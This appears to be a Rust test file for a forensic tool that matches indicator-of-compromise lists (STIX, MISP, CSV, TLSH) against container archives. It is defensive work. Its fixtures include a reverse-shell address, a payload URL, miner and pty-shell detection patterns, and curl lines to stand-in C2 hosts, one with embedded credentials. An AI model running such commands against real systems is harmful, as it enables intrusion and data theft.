//! Indicators that the user brings (`--ioc`, `--warninglists`), and those that an archive yields (`iocs`).

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;
use std::sync::LazyLock;

use cryoscope::Checkpoint;
use cryoscope::analysis::hunt::Yield;
use cryoscope::analysis::indicators::Loader;
use cryoscope::analysis::{Scan, Selection};
use cryoscope::formats::hunt::{self, Hunted};
use serde_json::{Value, json};

use crate::archives::Members;
use crate::command::{Ran, cryoscope, run};
use crate::fixtures;

/// The known compromise: what is in it is in `truth.json` next to it.
fn shop() -> String {
    fixtures::archive_of("webapp-compromise").display().to_string()
}

fn tick() -> String {
    fixtures::path("forms-reference/podman-runc.tar").display().to_string()
}

fn run_in(home: &Path, arguments: &[&str]) -> Ran {
    Ran::of(cryoscope(home).args(arguments).output().unwrap())
}

/// The matches of all lists of these tests in the compromise, in one run: it takes a while without optimization.
static MATCHES: LazyLock<(Vec<Value>, String)> = LazyLock::new(|| {
    let home = tempfile::tempdir().unwrap();
    let lists = [
        ("list.txt", LIST.to_owned()),
        ("b.json", stix().to_string()),
        ("event.json", event().to_string()),
        ("feed.csv", NAMED.to_owned()),
        ("x.txt", NAMELESS.to_owned()),
        ("u.csv", HEADER_IN_COMMENT.to_owned()),
    ];
    let mut arguments =
        vec!["table".to_owned(), "ioc_matches".to_owned(), shop(), "--format".to_owned(), "ndjson".to_owned()];
    for (name, text) in lists {
        fs::write(home.path().join(name), text).unwrap();
        arguments.extend(["--ioc".to_owned(), name.to_owned()]);
    }
    let ran = Ran::of(cryoscope(home.path()).args(arguments).output().unwrap());
    assert_eq!(ran.code, Some(0), "{ran:?}");
    (ran.out.lines().map(|line| serde_json::from_str(line).unwrap()).collect(), ran.err)
});

/// The matches of one list.
fn matches(name: &str) -> (Vec<Value>, Vec<&'static str>) {
    let (rows, err) = &*MATCHES;
    let start = format!("cryoscope: {name}: ");
    (
        rows.iter().filter(|row| row["list"] == name).cloned().collect(),
        err.lines().filter(|line| line.starts_with(&start)).collect(),
    )
}

/// `how place indicator`, each once.
fn said(rows: &[Value]) -> BTreeSet<String> {
    let text = |row: &Value, column: &str| row[column].as_str().unwrap_or_default().to_owned();
    rows.iter().map(|row| format!("{} {} {}", text(row, "how"), text(row, "place"), text(row, "indicator"))).collect()
}

fn has(said: &BTreeSet<String>, wanted: &[&str]) {
    for one in wanted {
        assert!(said.contains(*one), "{one}: {said:#?}");
    }
}

const LIST: &str = "# Seen in the case of the shop\n\
    203[.]0[.]113[.]66:4444   # a shell\n\
    203.0.113.66:9999\n\
    203.0.113.77\n\
    hxxp://203.0.113[.]66/u.sh\n\
    cryolab[.]example\n\
    otcryolab.example\n\
    /tmp/.cache/.x/run.sh\n\
    kdevtmpfsi\n\
    3efe3aa28687a245c22e76012b9cd433539ee8a410157cd8e65d69ff9c9c4958\n\
    SHA256:fi1971DtvnYwl99OflT02nIJ3X6Acigd+kFGcQqoiSs\n\
    198.51.100.0/24\n\
    8.8.8.8\n\
    google.com\n";

#[test]
fn a_plain_list_is_compared_with_everything() {
    let (rows, err) = matches("list.txt");
    assert_eq!(err, Vec::<&str>::new());
    let said = said(&rows);
    has(
        &said,
        &[
            "contact socket 203.0.113.66",
            "contact socket 203.0.113.77",
            "contact process kdevtmpfsi",
            "contact file /tmp/.cache/.x/run.sh",
            "contact open file /tmp/.cache/.x/run.sh",
            "contact file 3efe3aa28687a245c22e76012b9cd433539ee8a410157cd8e65d69ff9c9c4958",
            "contact file SHA256:fi1971DtvnYwl99OflT02nIJ3X6Acigd+kFGcQqoiSs",
            "text command line cryolab.example",
            "text file http://203.0.113.66/u.sh",
            // Addresses of documentation are too general to be looked for in memory, and so are URLs with them.
            "text memory /tmp/.cache/.x/run.sh",
        ],
    );
    for absent in ["otcryolab.example", "198.51.100.0/24"] {
        assert!(!said.iter().any(|one| one.ends_with(absent)), "{absent}: {said:#?}");
    }
    let sockets: Vec<&Value> = rows.iter().filter(|row| row["place"] == "socket").collect();
    assert!(sockets.iter().all(|row| row["direction"] == "outbound" && row["remote_port"] != 9999), "{sockets:#?}");
    let shell = sockets.iter().find(|row| row["remote_port"] == 4444).unwrap();
    assert_eq!(
        (&shell["line"], &shell["description"], &shell["kind"]),
        (&json!(2), &json!("a shell"), &json!("address"))
    );
    // What only text says has a place that another tool finds.
    let path = rows.iter().find(|row| row["place"] == "memory" && row["kind"] == "path").unwrap();
    assert!(path["member"].as_str().unwrap().contains("pages-") && path["address"].is_string(), "{path}");
    assert!(path["context"].as_str().unwrap().contains("/tmp/.cache/.x/run.sh"), "{path}");
}

#[test]
fn contacts_and_text_are_two_rules_and_need_a_list() {
    let home = tempfile::tempdir().unwrap();
    fs::write(home.path().join("l.txt"), LIST).unwrap();
    let shop = shop();
    let scan = |flags: &[&str]| {
        run_in(home.path(), &[&["scan", &shop, "--rules", "IOC", "--format", "ndjson"], flags].concat())
    };
    assert_eq!(scan(&[]).ok(), "", "without a list, there is nothing to say");
    let rows: Vec<Value> =
        scan(&["--ioc", "l.txt"]).ok().lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let of = |rule: &str, part: &str| {
        let found = rows.iter().find(|row| row["rule"] == rule && row["sentence"].as_str().unwrap().contains(part));
        found.unwrap_or_else(|| panic!("{rule} {part}: {rows:#?}")).clone()
    };
    let contact = of("IOC-001", "is connected to 203.0.113.66:4444 (tcp)");
    assert_eq!((&contact["severity"], &contact["foreign_rule"]), (&json!("high"), &json!("203.0.113.66")));
    assert!(contact["sentence"].as_str().unwrap().contains("(l.txt, line 2: \u{201c}a shell\u{201d})"), "{contact}");
    let of_name = rows.iter().find(|row| row["foreign_rule"] == "kdevtmpfsi").unwrap();
    assert_eq!(of_name["severity"], "low", "a name alone");
    let text = of("IOC-002", "the domain cryolab.example");
    assert!(text["severity"] == "medium" && text["next"].as_str().unwrap().starts_with("cryoscope "), "{text}");
    let with_text = rows.iter().filter(|row| row["rule"] == "IOC-002");
    assert!(with_text.clone().all(|row| row["foreign_rule"] != "203.0.113.77"), "the contact says it");
}

#[test]
fn what_is_too_general_is_silenced_and_named() {
    let home = tempfile::tempdir().unwrap();
    let lists = home.path().join("lists/mine");
    fs::create_dir_all(&lists).unwrap();
    let mine = json!({"name": "Mine", "type": "cidr", "list": ["203.0.113.64/28"]});
    fs::write(lists.join("list.json"), mine.to_string()).unwrap();
    fs::write(home.path().join("lists/bad.json"), "{").unwrap();
    fs::write(home.path().join("l.txt"), "203.0.113.66\n169.254.169.254\n").unwrap();
    let shop = shop();
    let table = |flags: &[&str]| {
        run_in(home.path(), &[&["table", "ioc_matches", &shop, "--ioc", "l.txt", "--format", "ndjson"], flags].concat())
    };
    let rows = |ran: &Ran| -> Vec<Value> { ran.out.lines().map(|line| serde_json::from_str(line).unwrap()).collect() };
    let plain = rows(&table(&[]));
    let link_local = plain.iter().filter(|row| row["indicator"] == "169.254.169.254");
    assert!(link_local.clone().count() > 0);
    assert!(link_local.clone().all(|row| row["silenced_by"] == "private and reserved networks"), "{plain:#?}");
    assert!(plain.iter().any(|row| row["indicator"] == "203.0.113.66" && row["silenced_by"].is_null()));
    let ran = table(&["--warninglists", "lists"]);
    assert!(ran.err.contains("bad.json") && ran.err.contains("is not used"), "{}", ran.err);
    assert!(rows(&ran).iter().all(|row| !row["silenced_by"].is_null()));
    assert!(rows(&table(&["--ioc-all"])).iter().all(|row| row["silenced_by"].is_null()));
    let scan = run_in(
        home.path(),
        &["scan", &shop, "--rules", "IOC", "--ioc", "l.txt", "--warninglists", "lists", "-q", "--format", "ndjson"],
    );
    assert_eq!(scan.out, "");
}

fn stix() -> Value {
    let indicator = |id: u32, pattern: &str| {
        json!({
            "type": "indicator", "spec_version": "2.1", "id": format!("indicator--00000000-0000-4000-8000-{id:012}"),
            "created_by_ref": "identity--00000000-0000-4000-8000-000000000099",
            "created": "2026-01-01T00:00:00Z", "modified": "2026-01-01T00:00:00Z", "valid_from": "2026-01-01T00:00:00Z",
            "name": format!("Number {id}"), "pattern": pattern, "pattern_type": "stix", "confidence": 90,
        })
    };
    json!({"type": "bundle", "id": "bundle--00000000-0000-4000-8000-000000000000", "objects": [
        indicator(1, "[network-traffic:dst_ref.value = '203.0.113.66' AND network-traffic:dst_port IN (4444, 4445)]"),
        indicator(2, "[process:command_line LIKE '%--donate-level%']"),
        indicator(3, "[process:command_line MATCHES 'pty\\\\.spawn' AND process:name = 'python3']"),
        indicator(4, "[file:hashes.'SHA-256' = '3efe3aa28687a245c22e76012b9cd433539ee8a410157cd8e65d69ff9c9c4958' AND file:name = 'kw']"),
        indicator(5, "[domain-name:value = 'cryolab.example'] AND [ipv4-addr:value = '198.51.100.1']"),
        indicator(6, "[file:size > 3]"),
        indicator(7, "[directory:path = '/tmp/.cache/.x']"),
        {"type": "indicator", "id": "indicator--00000000-0000-4000-8000-000000000008", "pattern": "rule x { condition: true }", "pattern_type": "yara"},
        {"type": "identity", "id": "identity--00000000-0000-4000-8000-000000000099", "name": "The lab"},
    ]})
}

#[test]
fn patterns_of_stix_are_compared_row_by_row() {
    let (rows, err) = matches("b.json");
    let err = err.join("\n");
    let ids: BTreeSet<String> =
        rows.iter().map(|row| row["list_id"].as_str().unwrap().chars().last().unwrap().to_string()).collect();
    assert_eq!(ids.iter().map(String::as_str).collect::<Vec<_>>(), ["1", "2", "3", "4", "7"], "{rows:#?}");
    assert!(
        err.contains("the property file:size is not compared") && err.contains("give such rules with --yara"),
        "{err}"
    );
    let ports: BTreeSet<i64> = rows.iter().filter_map(|row| row["remote_port"].as_i64()).collect();
    assert_eq!(ports, BTreeSet::from([4444, 4445]));
    assert!(rows.iter().all(|row| row["author"] == "The lab" && row["level"] == "confidence 90"), "{rows:#?}");
    assert!(
        rows.iter()
            .filter(|row| row["kind"] == "command")
            .all(|row| row["how"] == "contact" && row["place"] == "process")
    );
    let file = rows.iter().filter(|row| row["kind"] == "sha256").collect::<Vec<_>>();
    assert!(!file.is_empty() && file.iter().all(|row| row["path"] == "/tmp/.cache/.x/kw"), "{file:#?}");
}

fn event() -> Value {
    json!({"Event": {"uuid": "5c0d0000-0000-4000-8000-000000000001", "info": "The shop", "threat_level_id": "1",
    "Orgc": {"name": "The lab"}, "Tag": [{"name": "tlp:green"}],
    "Attribute": [
        {"uuid": "a1", "type": "ip-dst|port", "value": "203.0.113.77|3333", "to_ids": "1", "category": "Network activity"},
        {"uuid": "a2", "type": "domain", "value": "pool.cryolab.example", "to_ids": false},
        {"uuid": "a3", "type": "yara", "value": "rule x {}", "to_ids": true},
        {"uuid": "a4", "type": "filename|sha256", "value": "nope|3efe3aa28687a245c22e76012b9cd433539ee8a410157cd8e65d69ff9c9c4958", "to_ids": true}
    ],
    "Object": [{"name": "ip-port", "Attribute": [
        {"uuid": "a5", "type": "ip-dst", "value": "203.0.113.66", "to_ids": true},
        {"uuid": "a6", "type": "port", "object_relation": "dst-port", "value": 4445, "to_ids": true}
    ]}]}})
}

#[test]
fn events_and_feeds_of_misp_are_read() {
    let (rows, err) = matches("event.json");
    let err = err.join("\n");
    let contacts: BTreeSet<(String, i64)> = rows
        .iter()
        .filter(|row| row["place"] == "socket")
        .map(|row| (row["list_id"].as_str().unwrap().to_owned(), row["remote_port"].as_i64().unwrap()))
        .collect();
    assert_eq!(contacts, BTreeSet::from([("a1".to_owned(), 3333), ("a5".to_owned(), 4445)]), "{rows:#?}");
    assert!(rows.iter().all(|row| row["title"] == "The shop" && row["level"] == "high" && row["list_id"] != "a4"));
    assert!(
        err.contains("not marked for detection (to_ids); --ioc-all uses it") && err.contains("rule of YARA"),
        "{err}"
    );

    let home = tempfile::tempdir().unwrap();
    let feed = home.path().join("feed");
    fs::create_dir(&feed).unwrap();
    let id = "5c0d0000-0000-4000-8000-000000000001";
    fs::write(home.path().join("secret.json"), event().to_string()).unwrap();
    fs::write(feed.join("manifest.json"), json!({id: {"info": "x"}, "../secret": {"info": "y"}}).to_string()).unwrap();
    fs::write(feed.join(format!("{id}.json")), event().to_string()).unwrap();
    let loaded = |all: bool| {
        let mut loader = Loader::new(all);
        loader.add(&feed).unwrap();
        let indicators = loader.finish();
        assert_eq!(indicators.lists().len(), 2, "the manifest and its event, but nothing outside of the folder");
        indicators.len()
    };
    assert!(loaded(true) > loaded(false));
}

const NAMED: &str = "# feed\n\"ioc_type\",\"ioc_value\",\"malware_printable\",\"confidence_level\"\n\
    \"ip:port\",\"203.0.113.66:4444\",\"a, \"\"shell\"\"\",\"75\"\n\"domain\",\"pool[.]cryolab[.]example\",\"miner\",\"50\"\n";
const NAMELESS: &str = "2026-01-01;203.0.113.77;seen\n2026-01-02;203.0.113.99;seen\n";
const HEADER_IN_COMMENT: &str = "# id,dateadded,url,threat\n1,2026,http://203.0.113.66/u.sh,malware\n";

#[test]
fn columns_of_csv_are_known_by_name_or_by_what_is_in_them() {
    let (rows, _) = matches("feed.csv");
    let contact = rows.iter().find(|row| row["how"] == "contact").unwrap();
    assert_eq!(
        (&contact["line"], &contact["description"], &contact["level"]),
        (&json!(3), &json!("a, \"shell\""), &json!("75"))
    );
    assert!(rows.iter().any(|row| row["indicator"] == "pool.cryolab.example" && row["line"] == 4), "{rows:#?}");
    let (rows, _) = matches("x.txt");
    assert!(rows.iter().any(|row| row["indicator"] == "203.0.113.77" && row["line"] == 1), "{rows:#?}");
    let (rows, _) = matches("u.csv");
    assert!(rows.iter().any(|row| row["kind"] == "url" && row["line"] == 2 && row["list_id"] == "1"), "{rows:#?}");
}

#[test]
fn what_cannot_be_read_is_named_with_its_place() {
    let home = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &[u8]| fs::write(home.path().join(name), text).unwrap();
    write("bad.json", b"{\"type\": \"bundle\",\n \"objects\": [\n {\"type\": 3}]}");
    write("other.json", b"{\"a\": 1}");
    write("x.ioc", b"<?xml version=\"1.0\"?><ioc/>");
    write("none.txt", b"# nothing\n");
    write("odd.txt", b"203.0.113.7\n\xff\xfe\n256.1.1.1/99\nHKLM\\Software\\x\n");
    write("regex.json", br#"{"type":"bundle","objects":[{"type":"indicator","id":"indicator--1","pattern":"[process:command_line MATCHES '(((a{100}){100}){100}){100}']"},{"type":"indicator","id":"indicator--2","pattern":"[process:command_line MATCHES '(a+)+$' OR url:value = 'http://x.net/a'"}]}"#);
    let tick = tick();
    let refused = |name: &str, parts: &[&str]| {
        let ran = run_in(home.path(), &["scan", &tick, "--rules", "IOC", "--ioc", name]);
        assert!(ran.code == Some(2) && ran.out.is_empty(), "{name}: {ran:?}");
        assert!(parts.iter().all(|part| ran.err.contains(part)), "{name}: {}", ran.err);
    };
    refused("bad.json", &["bad.json: ", "line 3"]);
    refused("other.json", &["neither a bundle of STIX 2.1 nor"]);
    refused("x.ioc", &["OpenIOC, is not read; convert it"]);
    refused("none.txt", &["none.txt: no indicator that can be used"]);
    refused("missing.txt", &["missing.txt"]);
    refused(
        "regex.json",
        &[
            "indicator--1: not used: the regular expression is too large",
            "indicator--2: not used: the pattern is not valid: a bracket is missing",
        ],
    );
    let ran = run_in(home.path(), &["scan", &tick, "--rules", "IOC", "--ioc", "odd.txt"]);
    assert!(ran.code == Some(0), "{ran:?}");
    assert!(ran.err.contains("odd.txt: line 2: not used: the line is not UTF-8"), "{}", ran.err);
    assert!(ran.err.contains("line 4: not used: paths and keys of Windows are not compared"), "{}", ran.err);
    assert!(run_in(home.path(), &["scan", &tick, "--ioc-all"]).code == Some(2));
}

/// Lists of any bytes are read without a panic.
#[test]
fn damaged_lists_are_refused_or_read() {
    let seeds = [LIST.to_owned(), stix().to_string(), "type,value,port\nip,203.0.113.7,80\n\"x".to_owned()];
    for seed in &seeds {
        for cut in (0..seed.len()).step_by(37) {
            for (name, damage) in [("a.json", 0_u8), ("a.csv", b'"'), ("a.txt", b',')] {
                let mut bytes = seed.as_bytes()[..cut].to_vec();
                if let Some(byte) = bytes.get_mut(cut / 2).filter(|_| damage != 0) {
                    *byte = damage;
                }
                let mut loader = Loader::new(false);
                let _ = loader.read(Path::new(name), bytes.as_slice());
                let _ = loader.finish();
            }
        }
    }
}

/// What an archive yields.
fn yielded(archive: &str, all: bool) -> Hunted {
    let checkpoint = Checkpoint::open(archive).unwrap();
    let scan = Scan::run(&checkpoint, &Selection::default());
    Hunted::new(archive, checkpoint.rows().container(), Yield::of(&checkpoint, &scan), all)
}

static SHOP: LazyLock<Hunted> = LazyLock::new(|| yielded(&shop(), false));

/// What an archive yields is found again by `--ioc`, from every format.
#[test]
fn what_an_archive_yields_is_found_in_it_again() {
    let home = tempfile::tempdir().unwrap();
    let shop = std::slice::from_ref(&*SHOP);
    let rows = csv_rows(&hunt::csv(shop));
    assert!(rows.len() > 40, "{rows:#?}");
    let key = |kind: &str, value: &str| format!("{kind} {value}");
    let all: BTreeSet<String> = rows.iter().map(|row| key(&row["type"], &row["indicator"])).collect();
    has(
        &all,
        &[
            "address 203.0.113.66",
            "address 203.0.113.77",
            "domain pool.cryolab.example",
            "url http://203.0.113.66/u.sh",
            "directory /tmp/.cache/.x",
            "path /tmp/.cache/.x/run.sh",
            "sha256 3efe3aa28687a245c22e76012b9cd433539ee8a410157cd8e65d69ff9c9c4958",
            "ssh_key SHA256:fi1971DtvnYwl99OflT02nIJ3X6Acigd+kFGcQqoiSs",
            "name kdevtmpfsi",
        ],
    );
    let port = rows.iter().find(|row| row["port"] == "4444").unwrap();
    assert_eq!(
        (port["direction"].as_str(), port["protocol"].as_str(), port["confidence"].as_str()),
        ("outbound", "tcp", "high")
    );
    assert!(port["description"].contains("process_open_sockets") && port["rules"].contains("PROC-005"), "{port:?}");
    let files = [
        ("out.csv", hunt::csv(shop)),
        ("stix.json", hunt::stix(shop)),
        ("misp.json", hunt::misp(shop)),
        ("out.txt", hunt::txt(shop)),
    ];
    let archive = self::shop();
    let mut arguments = vec!["table", "ioc_matches", &archive, "--format", "ndjson"];
    for (name, text) in &files {
        fs::write(home.path().join(name), text).unwrap();
        arguments.extend(["--ioc", name]);
    }
    let ran = run_in(home.path(), &arguments);
    assert_eq!((ran.code, ran.err.as_str()), (Some(0), ""));
    let matches: Vec<Value> = ran.out.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    for (name, _) in &files {
        let found: BTreeSet<String> = matches
            .iter()
            .filter(|row| row["silenced_by"].is_null() && row["list"] == *name)
            .map(|row| key(row["kind"].as_str().unwrap(), row["indicator"].as_str().unwrap()))
            .collect();
        // These kinds have no look of their own, or need a line for themselves.
        let is_plain = |one: &String| {
            !["command ", "name ", "port ", "socket "].iter().any(|kind| one.starts_with(kind)) && !one.contains(".. ")
        };
        let as_read =
            |one: &String| if *name == "misp.json" { one.replacen("command ", "text ", 1) } else { one.clone() };
        let missed: Vec<&String> =
            all.iter().filter(|one| (*name != "out.txt" || is_plain(one)) && !found.contains(&as_read(one))).collect();
        assert!(missed.is_empty(), "{name}: {missed:#?}\n{found:#?}");
    }
}

fn csv_rows(text: &str) -> Vec<std::collections::HashMap<String, String>> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    reader.deserialize().map(Result::unwrap).collect()
}

#[test]
fn an_ordinary_container_yields_nothing() {
    for name in ["cron", "inetd", "tools"] {
        let archive = fixtures::path("scan").join(format!("quiet-{name}.tar.zst")).display().to_string();
        assert_eq!(hunt::txt(&[yielded(&archive, false)]), "", "{name}");
    }
    let ran = run(["iocs", &tick(), "--format", "txt"]);
    assert_eq!((ran.code, ran.out.as_str()), (Some(1), ""));
    assert!(ran.err.contains("nothing to hunt for"), "{}", ran.err);
}

/// The rules of the standard for the objects that we write: common properties, required ones, formats, references.
#[test]
fn the_bundle_is_valid_stix() {
    let text = hunt::stix(std::slice::from_ref(&*SHOP));
    let bundle: Value = serde_json::from_str(&text).unwrap();
    let is_id = |id: &str, kind: &str| {
        let uuid = id.strip_prefix(kind).and_then(|rest| rest.strip_prefix("--")).unwrap_or_else(|| panic!("{id}"));
        assert_eq!(uuid.len(), 36, "{id}");
        // Version 5, variant 1.
        assert!(uuid.as_bytes()[14] == b'5' && b"89ab".contains(&uuid.as_bytes()[19]), "{id}");
    };
    assert_eq!(bundle["type"], "bundle");
    is_id(bundle["id"].as_str().unwrap(), "bundle");
    assert!(bundle.get("spec_version").is_none(), "a bundle of 2.1 has none");
    let objects = bundle["objects"].as_array().unwrap();
    let ids: Vec<&str> = objects.iter().map(|object| object["id"].as_str().unwrap()).collect();
    assert_eq!(ids.iter().collect::<BTreeSet<_>>().len(), ids.len(), "ids are used once");
    let mut kinds = BTreeSet::new();
    for object in objects {
        let kind = object["type"].as_str().unwrap();
        kinds.insert(kind);
        is_id(object["id"].as_str().unwrap(), kind);
        assert_eq!(object["spec_version"], "2.1");
        for time in ["created", "modified"].into_iter().chain((kind == "indicator").then_some("valid_from")) {
            let text = object[time].as_str().unwrap();
            assert!(text.len() == 24 && text.ends_with('Z') && text.parse::<jiff::Timestamp>().is_ok(), "{text}");
        }
        if let Some(by) = object.get("created_by_ref") {
            assert!(ids.contains(&by.as_str().unwrap()), "{by}");
        }
        match kind {
            "indicator" => {
                assert!(object["pattern_type"] == "stix" && object["pattern"].as_str().unwrap().starts_with('['));
                assert!((0..=100).contains(&object["confidence"].as_i64().unwrap()));
                let types = ["benign", "malicious-activity"];
                assert!(types.contains(&object["indicator_types"][0].as_str().unwrap()));
            }
            "grouping" => {
                assert_eq!(object["context"], "suspicious-activity");
                let refs = object["object_refs"].as_array().unwrap();
                assert!(!refs.is_empty() && refs.iter().all(|one| ids.contains(&one.as_str().unwrap())));
            }
            "identity" => assert!(object["name"].is_string()),
            other => panic!("{other}"),
        }
    }
    assert_eq!(kinds, BTreeSet::from(["grouping", "identity", "indicator"]));
}

#[test]
fn events_for_misp_have_what_an_import_needs() {
    let event: Value = serde_json::from_str(&hunt::misp(std::slice::from_ref(&*SHOP))).unwrap();
    let event = &event["Event"];
    for key in ["uuid", "info", "date", "timestamp", "threat_level_id", "analysis", "distribution"] {
        assert!(event[key].is_string(), "{key}");
    }
    let attributes = event["Attribute"].as_array().unwrap();
    assert!(attributes.iter().all(|one| ["uuid", "type", "category", "value"].iter().all(|key| one[*key].is_string())));
    assert!(
        attributes
            .iter()
            .any(|one| one["type"] == "ip-dst|port" && one["value"] == "203.0.113.66|4444" && one["to_ids"] == true)
    );
    let tick = tick();
    let tree = fixtures::archive_of("tree").display().to_string();
    let two = run(["iocs", &tick, &tree, "--format", "misp"]);
    assert_eq!(two.json()["response"].as_array().unwrap().len(), 2);
}

/// The small container with a changed file.
fn with_file(folder: &Path, name: &str, contents: &[u8]) -> String {
    with_files(folder, &[(name, contents)])
}

/// The same with several. A name that ends with a slash is a directory.
fn with_files(folder: &Path, files: &[(&str, &[u8])]) -> String {
    let mut members = Members::of(&fixtures::path("forms-reference/podman-runc.tar"));
    let mut tar = tar::Builder::new(Vec::new());
    for (name, contents) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(contents.len() as u64);
        header.set_mode(0o755);
        if name.ends_with('/') {
            header.set_entry_type(tar::EntryType::Directory);
        }
        tar.append_data(&mut header, name, *contents).unwrap();
    }
    members.set("rootfs-diff.tar", tar.into_inner().unwrap());
    let path = folder.join("made.tar");
    fs::write(&path, members.tar()).unwrap();
    path.display().to_string()
}

/// Everything that an indicator has is found: all its parts, in all places, by its expressions, and no secret is shown.
#[test]
fn parts_places_and_expressions_are_all_found() {
    let home = tempfile::tempdir().unwrap();
    let blocked: Vec<String> = (0..25).map(|number| format!("blocked{number}.evil-list.net\n")).collect();
    let blocked = blocked.concat();
    let both = "one.evil-c2.net two.evil-c2.net\n";
    let get = ["curl https://bot:", "k3Jd9xTmWq@three.evil-c2.net/gate.php?x\n"].concat();
    let made = with_files(
        home.path(),
        &[
            ("tmp/a", both.as_bytes()),
            ("tmp/b", both.as_bytes()),
            ("tmp/c", both.as_bytes()),
            ("tmp/get", get.as_bytes()),
            ("etc/blocked", blocked.as_bytes()),
            ("var/.hidden/", b""),
        ],
    );
    let pattern = |number: u32, pattern: &str| {
        json!({"type": "indicator", "spec_version": "2.1", "id": format!("indicator--{number}"), "name": format!("n{number}"),
               "pattern_type": "stix", "pattern": pattern})
    };
    let bundle = json!({"type": "bundle", "id": "bundle--1", "objects": [
        pattern(1, "[domain-name:value = 'one.evil-c2.net'] AND [domain-name:value = 'two.evil-c2.net']"),
        pattern(2, "[domain-name:value = 'one.evil-c2.net' OR domain-name:value = 'two.evil-c2.net']"),
        pattern(3, "[domain-name:value LIKE 'three.evil%']"),
        pattern(4, "[url:value MATCHES '/gate\\\\.php']"),
        pattern(5, "[file:name LIKE '/tmp/ge_']"),
        pattern(6, "[domain-name:value = 'one.evil-c2.net' AND file:name = 'a']"),
        pattern(7, "[directory:path = '/var/.hidden']"),
    ]});
    fs::write(home.path().join("b.json"), bundle.to_string()).unwrap();
    fs::write(home.path().join("l.txt"), format!("{blocked}two.evil-c2.net\n")).unwrap();
    let ran = run_in(
        home.path(),
        &["table", "ioc_matches", &made, "--format", "ndjson", "--ioc", "b.json", "--ioc", "l.txt"],
    );
    assert_eq!(
        ran.err, "cryoscope: b.json: indicator--6: not used: no row has all of these together: domain, name\n",
        "{ran:?}"
    );
    assert!(!ran.out.contains("k3Jd9xTmWq"), "{}", ran.out);
    let rows: Vec<Value> = ran.out.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let found = |id: &str| -> Vec<String> {
        let of_id = rows.iter().filter(|row| row["list_id"] == id && row["place"] == "file");
        let mut all: Vec<String> = of_id
            .map(|row| {
                format!(
                    "{} {} {}",
                    row["how"].as_str().unwrap(),
                    row["indicator"].as_str().unwrap(),
                    row["path"].as_str().unwrap()
                )
            })
            .collect();
        all.sort();
        all
    };
    let both: Vec<String> = ["one", "two"]
        .iter()
        .flat_map(|name| ["a", "b", "c"].map(|file| format!("text {name}.evil-c2.net /tmp/{file}")))
        .collect();
    assert_eq!((found("indicator--1"), found("indicator--2")), (both.clone(), both), "{rows:#?}");
    assert_eq!((found("indicator--3").len(), found("indicator--4").len()), (1, 1), "{rows:#?}");
    assert!(found("indicator--5")[0].starts_with("contact ") && found("indicator--5")[0].ends_with(" /tmp/get"));
    assert_eq!(found("indicator--7"), ["contact /var/.hidden /var/.hidden"]);
    // A list in one file says nothing about another.
    let ran = run_in(home.path(), &["scan", &made, "--rules", "IOC", "--format", "ndjson", "--ioc", "l.txt"]);
    let rows: Vec<Value> = ran.out.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let of =
        |part: &str| rows.iter().filter(|row| row["sentence"].as_str().unwrap().contains(part)).collect::<Vec<_>>();
    let (two, listed) = (of("two.evil-c2.net"), of("evil-list.net"));
    assert!(two.len() == 3 && two.iter().all(|row| row["severity"] == "medium"), "{two:#?}");
    assert!(listed.len() == 25 && listed.iter().all(|row| row["severity"] == "info"), "{listed:#?}");
}

/// A script of which variants have a few lines more.
fn script(lines: u32) -> String {
    let line = |n: u32| format!("step {n} {}\n", n.wrapping_mul(2_654_435_761) % 977);
    (0..lines).map(line).collect()
}

#[test]
fn similar_files_are_found_by_tlsh() {
    let home = tempfile::tempdir().unwrap();
    let made = with_file(home.path(), "tmp/drop.sh", script(90).as_bytes());
    let hash = |text: &str| {
        let hash = tlsh2::TlshDefaultBuilder::build_from(text.as_bytes()).unwrap().hash();
        String::from_utf8(hash.to_vec()).unwrap()
    };
    let (same, variant, other) = (hash(&script(90)), hash(&script(91)), hash(&script(900).replace("step", "XYZ: ")));
    let event = json!({"Event": {"info": "x", "Attribute": [
        {"type": "tlsh", "value": same, "to_ids": true, "uuid": "123e4567-e89b-12d3-a456-426614174000"},
        {"type": "filename|tlsh", "value": format!("other.sh|{same}"), "to_ids": true, "uuid": "123e4567-e89b-12d3-a456-426614174001"},
    ]}});
    let stix = json!({"type": "bundle", "id": "bundle--123e4567-e89b-12d3-a456-426614174000", "objects": [{
        "type": "indicator", "spec_version": "2.1", "id": "indicator--123e4567-e89b-12d3-a456-426614174000",
        "created": "2026-01-01T00:00:00Z", "modified": "2026-01-01T00:00:00Z", "valid_from": "2026-01-01T00:00:00Z",
        "pattern_type": "stix", "pattern": format!("[file:hashes.TLSH = '{variant}']"),
    }]});
    let lists = [
        ("plain.txt", format!("tlsh:{}\n{other}\n", variant[2..].to_ascii_lowercase())),
        ("misp.json", event.to_string()),
        ("stix.json", stix.to_string()),
        ("t.csv", format!("tlsh,comment\n{same},the dropper\n")),
    ];
    let mut arguments = vec!["table", "ioc_matches", &made, "--format", "ndjson"];
    for (name, text) in &lists {
        fs::write(home.path().join(name), text).unwrap();
        arguments.extend(["--ioc", name]);
    }
    let out = run_in(home.path(), &arguments).ok();
    let rows: Vec<Value> = out.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let mut found: Vec<(&str, bool)> = rows
        .iter()
        .map(|row| {
            assert_eq!((row["kind"].as_str(), row["how"].as_str()), (Some("tlsh"), Some("contact")), "{row}");
            (row["list"].as_str().unwrap(), row["context"].as_str().unwrap().ends_with("distance 0"))
        })
        .collect();
    found.sort_unstable();
    assert_eq!(found, [("misp.json", true), ("plain.txt", false), ("stix.json", false), ("t.csv", true)], "{out}");
    let out = run_in(home.path(), &["scan", &made, "--rules", "IOC", "--ioc", "stix.json"]).out;
    assert!(out.contains("is similar to a file with (distance ") && out.contains("/tmp/drop.sh"), "{out}");
}

#[test]
fn query_and_inspect_compare_with_lists_too() {
    let home = tempfile::tempdir().unwrap();
    let made = with_file(home.path(), "tmp/drop.sh", b"curl http://evil.example.net/x\n");
    fs::write(home.path().join("list.txt"), "/tmp/drop.sh\n").unwrap();
    let query = "SELECT kind, how, path FROM ioc_matches";
    let out = run_in(home.path(), &["query", &made, query, "--ioc", "list.txt", "--format", "csv"]).ok();
